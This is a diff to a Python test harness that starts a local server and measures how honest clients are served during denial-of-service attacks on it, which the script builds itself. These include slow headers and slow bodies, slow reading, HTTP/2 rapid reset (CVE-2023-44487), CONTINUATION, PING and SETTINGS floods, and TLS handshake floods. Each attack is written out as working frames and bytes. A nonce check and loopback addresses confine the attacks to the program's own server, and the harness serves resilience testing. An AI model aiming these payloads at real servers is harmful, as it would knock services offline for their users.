@@ -1,12 +1,14 @@
-"""Slow and endless requests against a gate that this program starts, and what an honest client sees of it.
+"""Attacks on a server that this program starts, and what honest clients see of them.
 
-`attack.py FOLDER PROGRAM WORDS...` opens an app, writes FOLDER/portcullis.toml for it, starts `PROGRAM WORDS...` there and prints one
-line of JSON for each attack. FOLDER holds a certificate, `shop.pem` and `shop.key`; attacks of HTTP/2 come over TLS. There is no other target: before each attack the listener must answer with the nonce of this run, which only
-the app in this process knows. Every attack ends by itself.
+`attack.py FOLDER TEMPLATE CONNECTIONS SECONDS NAMES PROGRAM WORDS...` opens an app, writes FOLDER/config from the template for it,
+starts `PROGRAM WORDS...` there and prints one line of JSON for each attack; NAMES is a list with commas, or `all`. FOLDER holds a
+certificate, `shop.pem` and `shop.key`; attacks of HTTP/2 and TLS come over TLS. There is no other target: before each attack the
+listener must answer with the nonce of this run, which only the app in this process knows. Every attack ends by itself.
 """
 
 import asyncio
 import json
+import multiprocessing
 import resource
 import secrets
 import socket
@@ -17,16 +19,16 @@ import sys
 import time
 from pathlib import Path
 
-CONNECTIONS = 300
-SECONDS = 4
+# What works on dear requests, 40 ms each.
+WORKERS = asyncio.Semaphore(8)
 PATIENCE = 2
 PAUSE = 0.1
 ATTACKERS_PER_ADDRESS = 10
 LARGE = b"x" * 3_000_000
 NONCE = secrets.token_hex(16).encode()
-HONEST = "127.9.0.1"
+UNKNOWN, KNOWN = "127.9.0.1", "127.9.1.1"
 
-DATA, HEADERS, SETTINGS = 0, 1, 4
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
 END_HEADERS, END_STREAM = 4, 1
 
 
@@ -41,6 +43,16 @@ def head(method, path):
     return fields + bytes([0x01, 8]) + b"app.test"
 
 
+def resets(turn):
+    """A hundred streams that are taken back at once (CVE-2023-44487)."""
+    numbers = range(1 + 200 * turn, 201 + 200 * turn, 2)
+    reset = struct.pack(">I", 8)
+    pairs = (
+        frame(HEADERS, END_HEADERS | END_STREAM, n, head("GET", b"/")) + frame(RST_STREAM, 0, n, reset) for n in numbers
+    )
+    return b"".join(pairs)
+
+
 def streams(method, path, flags, data=None):
     """Twenty streams that begin alike."""
     numbers = range(1, 41, 2)
@@ -51,15 +63,23 @@ def streams(method, path, flags, data=None):
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 NO_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
 OPEN = PREFACE + frame(SETTINGS, 0, 0, b"")
+# Many small fields, without compression.
+FIELDS = (bytes([0x00, 1]) + b"a" + bytes([1]) + b"b") * 2_000
 # As below, over HTTP/2.
 ATTACKS_2 = {
     "closed windows": (PREFACE + NO_WINDOW + streams("GET", b"/", END_STREAM), b"", 1),
+    "large closed windows": (PREFACE + NO_WINDOW + streams("GET", b"/large", END_STREAM), b"", 1),
     "unfinished streams": (OPEN + streams("POST", b"/upload", 0, b"x" * 16), b"", 1),
+    "resets": (OPEN, resets, 0.1),
+    "endless headers": (OPEN + frame(HEADERS, 0, 1, head("GET", b"/")), frame(CONTINUATION, 0, 1, FIELDS), 0.1),
+    "pings": (OPEN, frame(PING, 0, 0, b"x" * 8) * 500, 0.1),
+    "settings": (OPEN, frame(SETTINGS, 0, 0, b"") * 500, 0.1),
     "empty frames": (OPEN + streams("POST", b"/upload", 0), frame(DATA, 0, 1, b""), 0.1),
 }
 HOST = b" HTTP/1.1\r\nHost: app.test\r\n"
 UPLOAD = b"POST /upload" + HOST
-# What is sent first, what is sent again and again, and after how many seconds; None reads the answer drop by drop.
+# What is sent first, what is sent again and again, and after how many seconds; None reads the answer drop by drop, END goes at once.
+END = object()
 ATTACKS = {
     "slow headers": (b"GET /" + HOST, b"X-a: b\r\n", 1),
     "slow body": (UPLOAD + b"Content-Length: 1000000\r\n\r\n", b"x", 1),
@@ -67,6 +87,9 @@ ATTACKS = {
     "tiny chunks": (UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n", 0.1),
     "unfinished body": (UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n", b"", 1),
     "slow reading": (b"GET /large" + HOST + b"\r\n", None, 1),
+    "idle": (b"", b"", 1),
+    "requests": (b"", (b"GET /" + HOST + b"\r\n") * 5, 0.05),
+    "dear requests": (b"", (b"GET /dear" + HOST + b"\r\n") * 5, 0.05),
     "pipelined": ((b"GET /" + HOST + b"\r\n") * 50, b"", 1),
     "websockets": (
         b"GET /socket" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
@@ -75,27 +98,8 @@ ATTACKS = {
         1,
     ),
 }
-CONFIG = """
-[[listen]]
-address = "127.0.0.1:{listen}"
-
-[[listen]]
-address = "127.0.0.1:{tls}"
-[[listen.tls.certificate]]
-chain = "shop.pem"
-key = "shop.key"
-
-[[site]]
-
-[[site.origin]]
-url = "http://127.0.0.1:{origin}"
-
-[state]
-dir = "{state}"
-
-[console]
-address = "127.0.0.1:{console}"
-"""
+# As above, over TLS: a handshake and nothing else.
+HANDSHAKES = {"handshakes": (b"", END, 0)}
 
 
 async def serve(reader, writer):
@@ -111,8 +115,12 @@ async def serve(reader, writer):
                 await reader.read()
                 return
             await read_body(reader, head)
+            if head.startswith(b"get /dear"):
+                async with WORKERS:
+                    await asyncio.sleep(0.04)
             body = LARGE if head.startswith(b"get /large") else NONCE
-            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body))
+            signed_in = b"portcullis-login: ann\r\n" if head.startswith(b"get /in") else b""
+            writer.write(b"HTTP/1.1 200 OK\r\n%scontent-length: %d\r\n\r\n" % (signed_in, len(body)))
             writer.write(body)
             await writer.drain()
     except (OSError, asyncio.IncompleteReadError, ValueError):
@@ -132,30 +140,49 @@ async def read_body(reader, head):
             return
 
 
-async def is_served(listen):
-    """Whether an honest client with a connection of its own gets this run's nonce in time."""
-
-    async def ask():
-        reader, writer = await asyncio.open_connection("127.0.0.1", listen, local_addr=(HONEST, 0))
-        try:
-            writer.write(b"GET /" + HOST + b"Connection: close\r\n\r\n")
-            return NONCE in await reader.read()
-        finally:
-            writer.close()
-
+async def ask(listen, source, path=b"/", field=b""):
+    """The answer that an honest client gets on a connection of its own."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", listen, local_addr=(source, 0))
     try:
-        return await asyncio.wait_for(ask(), PATIENCE)
+        writer.write(b"GET " + path + HOST + field + b"Connection: close\r\n\r\n")
+        return await reader.read()
+    finally:
+        writer.close()
+
+
+async def is_served(listen, source=UNKNOWN, path=b"/", field=b""):
+    """After how many seconds an honest client gets this run's nonce; None if not in time."""
+    begun = time.monotonic()
+    try:
+        answer = await asyncio.wait_for(ask(listen, source, path, field), PATIENCE)
     except (OSError, asyncio.TimeoutError):
-        return False
+        return None
+    return time.monotonic() - begun if NONCE in answer else None
 
 
 async def becomes_served(listen):
     """Whether an honest client is served within ten seconds."""
     for _ in range(100):
-        if await is_served(listen):
+        if await is_served(listen) is not None:
             return True
         await asyncio.sleep(PAUSE)
     return False
+
+
+async def sign_in(listen):
+    """What a customer sends who has signed in; nothing where nobody remembers customers."""
+    answer = await ask(listen, KNOWN, b"/in")
+    cookies = [line.split(b": ", 1)[1].split(b";")[0] for line in answer.split(b"\r\n") if line.lower().startswith(b"set-cookie: ")]
+    return b"Cookie: " + b"; ".join(cookies) + b"\r\n" if cookies else b""
+
+
+async def visit(until, *who):
+    """What one honest client sees that asks ten times a second, whatever becomes of it: after how many seconds it was served."""
+    asked = []
+    while time.monotonic() < until:
+        asked.append(asyncio.create_task(is_served(*who)))
+        await asyncio.sleep(PAUSE)
+    return await asyncio.gather(*asked)
 
 
 async def attacker(number, target, attack, until):
@@ -182,42 +209,69 @@ async def hold(source, target, attack, until):
     reader, writer = await asyncio.open_connection(sock=plain, limit=256, ssl=security, server_hostname=name)
     try:
         writer.write(first)
-        while time.monotonic() < until and not reader.at_eof() and not writer.is_closing():
+        turn = 0
+        while again is not END and time.monotonic() < until and not reader.at_eof() and not writer.is_closing():
             await asyncio.sleep(pause)
             if again is None:
                 await asyncio.wait_for(reader.read(100), PATIENCE)
             elif again:
-                writer.write(again)
+                writer.write(again(turn) if callable(again) else again)
+                turn += 1
                 await asyncio.wait_for(writer.drain(), PATIENCE)
     finally:
         writer.close()
 
 
-def trusting():
+def trusting(protocols):
     """The client's side of TLS: whoever answers there was started by this program."""
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    context.set_alpn_protocols(["h2"])
+    context.set_alpn_protocols(protocols)
     return context
 
 
-async def measure(name, listen, tls):
-    """One attack, and what an honest client saw meanwhile and after it."""
+def attack_from_here(name, connections, seconds, listen, tls):
+    """All attackers of one attack; a process of its own, so that honest clients do not wait for them."""
+    if name in ATTACKS:
+        attack, target = ATTACKS[name], (listen, None)
+    elif name in ATTACKS_2:
+        attack, target = ATTACKS_2[name], (tls, trusting(["h2"]))
+    else:
+        attack, target = HANDSHAKES[name], (tls, trusting(["http/1.1"]))
+
+    async def all_of_them():
+        until = time.monotonic() + seconds
+        tasks = [asyncio.create_task(attacker(n, target, attack, until)) for n in range(connections)]
+        for task in (await asyncio.wait(tasks, timeout=seconds + 2 * PATIENCE))[1]:
+            task.cancel()
+
+    asyncio.run(all_of_them())
+
+
+async def measure(name, connections, seconds, listen, tls):
+    """One attack, and what honest clients saw meanwhile and after it."""
     if not await becomes_served(listen):
         raise SystemExit("the listener does not lead to this run's app")
-    until = time.monotonic() + SECONDS
-    attack, target = (ATTACKS.get(name), (listen, None))
-    if attack is None:
-        attack, target = ATTACKS_2[name], (tls, trusting())
-    attackers = [asyncio.create_task(attacker(n, target, attack, until)) for n in range(CONNECTIONS)]
-    served = []
-    while time.monotonic() < until:
-        served.append(await is_served(listen))
-        await asyncio.sleep(PAUSE)
-    for task in (await asyncio.wait(attackers, timeout=2 * PATIENCE))[1]:
-        task.cancel()
+    field = await sign_in(listen)
+    arguments = (name, connections, seconds, listen, tls)
+    attackers = multiprocessing.get_context("fork").Process(target=attack_from_here, args=arguments)
+    attackers.start()
+    until = time.monotonic() + seconds
+    path = b"/dear" if name == "dear requests" else b"/"
+    unknown, known = await asyncio.gather(
+        visit(until, listen, UNKNOWN, path), visit(until, listen, KNOWN, path, field)
+    )
+    await asyncio.to_thread(attackers.join, seconds + 3 * PATIENCE)
+    attackers.kill()
     recovered = await becomes_served(listen)
-    return {"attack": name, "asked": len(served), "served": sum(served), "recovered": recovered}
+    return {"attack": name, "unknown": seen(unknown), "known": seen(known), "remembered": bool(field), "recovered": recovered}
+
+
+def seen(times):
+    """How often somebody asked and was served, and the time within which half and nineteen of twenty answers came."""
+    served = sorted(time for time in times if time is not None)
+    at = lambda share: round(served[int(share * (len(served) - 1))] * 1000, 1) if served else None
+    return {"asked": len(times), "served": len(served), "p50_ms": at(0.5), "p95_ms": at(0.95)}
 
 
 def free_port():
@@ -227,23 +281,29 @@ def free_port():
         return probe.getsockname()[1]
 
 
-async def main(folder, command):
-    """All attacks, each against a new gate."""
+async def main(folder, template, connections, seconds, names, command):
+    """The attacks, each against a new process."""
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     app = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=1024)
     origin = app.sockets[0].getsockname()[1]
-    for number, name in enumerate([*ATTACKS, *ATTACKS_2]):
-        listen, tls, state = free_port(), free_port(), folder / str(number)
-        text = CONFIG.format(listen=listen, tls=tls, origin=origin, state=state, console=free_port())
-        (folder / "portcullis.toml").write_text(text)
+    every = [*ATTACKS, *ATTACKS_2, *HANDSHAKES]
+    for number, name in enumerate(every if names == "all" else names.split(",")):
+        ports = {"listen": free_port(), "tls": free_port(), "console": free_port(), "origin": origin}
+        text = Path(template).read_text()
+        for place, value in {**ports, "state": folder / str(number), "folder": folder}.items():
+            text = text.replace("{" + place + "}", str(value))
+        (folder / "config").write_text(text)
         with open(folder / "log", "ab") as log:
-            gate = subprocess.Popen(command, cwd=folder, stdout=log, stderr=log)
+            server = subprocess.Popen(command, cwd=folder, stdout=log, stderr=log)
         try:
-            print(json.dumps(await measure(name, listen, tls)), flush=True)
+            seen_of_it = await measure(name, int(connections), float(seconds), ports["listen"], ports["tls"])
+            print(json.dumps(seen_of_it), flush=True)
         finally:
-            gate.terminate()
-            gate.wait()
+            server.terminate()
+            server.wait()
 
 
-asyncio.run(main(Path(sys.argv[1]), sys.argv[2:]))
+if __name__ == "__main__":
+    FOLDER, TEMPLATE, COUNT, LENGTH, NAMES, *COMMAND = sys.argv[1:]
+    asyncio.run(main(Path(FOLDER), TEMPLATE, COUNT, LENGTH, NAMES, COMMAND))
